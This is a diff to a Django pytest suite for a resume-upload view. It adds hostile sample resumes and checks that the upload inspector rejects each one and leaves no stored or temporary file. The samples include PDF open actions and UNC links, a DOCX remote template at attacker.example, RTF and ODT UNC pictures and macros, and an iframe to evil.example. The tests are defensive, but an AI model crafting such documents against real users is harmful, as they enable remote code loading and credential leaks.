@@ -1,14 +1,23 @@
+import io
+import json
+
 import pytest
 from django.core import mail
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
+from django.utils.html import escape
+from pypdf.generic import NumberObject
 from pytest_django.asserts import assertContains, assertNotContains
 
+from candidates.filetypes import FileRejected, inspect_upload
 from candidates.models import Application, Candidate, Resume
-from tests.candidates.conftest import PDF, fixture_upload
+from tests.candidates import test_filetypes_remote as remote
+from tests.candidates.conftest import FIXTURES, PDF, fixture_upload
+from tests.candidates.test_filetypes import build_docx, build_odt, build_pdf
 from tests.jobs.factories import ClosedJobFactory, JobCategoryFactory, JobFactory
 
 pytestmark = pytest.mark.django_db
+FIXTURE_MANIFEST = json.loads((FIXTURES / "manifest.json").read_text(encoding="utf-8"))["files"]
 
 
 def form_data(**overrides):
@@ -126,6 +135,56 @@ def test_bad_input_gets_a_field_error_and_stores_nothing(
     if field != "name":
         assertContains(response, 'value="Jane Doe"', status_code=200)
     assert not Candidate.objects.exists() and resume_files() == []
+
+
+HOSTILE_RESUMES = {
+    "cv.pdf": lambda: remote.with_open_action(remote.uri()),
+    "links.pdf": lambda: remote.compressed(
+        remote.with_link(remote.pdf_action("GoToR", F=remote.UNC_PDF, D=NumberObject(0)))
+    ),
+    "polyglot.pdf": lambda: b"Jane Example\n" + build_pdf(),
+    "template.docx": lambda: remote.docx_with_rels(
+        remote.SETTINGS_RELS, ("attachedTemplate", "https://attacker.example/t.dotm", "External")
+    ),
+    "ole.docx": lambda: build_docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
+    "picture.rtf": lambda: remote.rtf(remote.REMOTE_RTF["includepicture-unc"]),
+    "object.rtf": lambda: remote.rtf(rb"{\objupdate}"),
+    "macro.odt": lambda: build_odt(remote.SCRIPTED_ODT["macro-on-open"]),
+    "picture.odt": lambda: build_odt(remote.REMOTE_ODT["linked-picture-unc"]),
+    "page.txt": lambda: b"Jane Example\nWelder\n<iframe src=https://evil.example/></iframe>\n",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE_RESUMES)
+def test_hostile_resume_gets_a_plain_field_error_and_leaves_no_file(
+    client, settings, tmp_path, resume_files, name
+):
+    data = HOSTILE_RESUMES[name]()
+    with pytest.raises(FileRejected) as caught:
+        inspect_upload(io.BytesIO(data), name, max_bytes=settings.RESUME_MAX_BYTES)
+    # Streamed to a temporary file, as a large upload is, to see that it goes too.
+    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 100
+    settings.FILE_UPLOAD_TEMP_DIR = upload_tmp = tmp_path / "upload-tmp"
+    upload_tmp.mkdir()
+    response = client.post(
+        reverse("candidates:resume-submit"), form_data(resume=SimpleUploadedFile(name, data))
+    )
+    assert response.status_code == 200
+    assert response.context["form"].errors == {"resume": [caught.value.message]}
+    assertContains(response, escape(caught.value.message))
+    assertContains(response, 'href="#id_resume"')
+    assert not Candidate.objects.exists() and resume_files() == []
+    assert list(upload_tmp.iterdir()) == []
+
+
+@pytest.mark.parametrize("name", [entry["filename"] for entry in FIXTURE_MANIFEST])
+def test_every_fixture_resume_is_accepted_and_stored(client, resume_files, name):
+    response = client.post(
+        reverse("candidates:resume-submit"), form_data(resume=fixture_upload(name))
+    )
+    assert response.status_code == 302, response.context["form"].errors
+    assert Resume.objects.get().original_name == name
+    assert len(resume_files()) == 1
 
 
 def test_oversize_upload_is_refused_without_keeping_it(client, settings, resume_files):
